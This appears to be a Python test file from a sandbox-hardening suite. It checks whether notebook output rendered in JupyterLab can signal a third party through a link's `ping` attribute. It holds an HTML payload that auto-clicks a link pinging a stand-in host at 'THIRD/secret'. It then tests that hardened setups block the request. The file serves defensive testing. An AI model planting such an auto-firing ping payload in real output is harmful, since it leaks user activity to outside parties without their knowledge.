"""Print a link that tells a third party when it is followed (`ping`).

Way: browser
Control: JupyterLab at the stock hub, where the third party hears it
Held by: `connect-src` names the session's own origin alone; from tier 2 on printed script is taken out
"""

OUTPUT = """
<a id="leads" href="#here" ping="THIRD/secret">more</a>
<script>document.getElementById("leads").click()</script>
"""


def test_control_the_third_party_hears_it(stock_screen, third_party) -> None:
    stock_screen.show(OUTPUT, third_party)
    third_party.hears("POST /secret")
    stock_screen.fresh()


def test_the_third_party_hears_nothing(any_screen, third_party) -> None:
    any_screen.show(OUTPUT, third_party)
    third_party.hears_nothing()
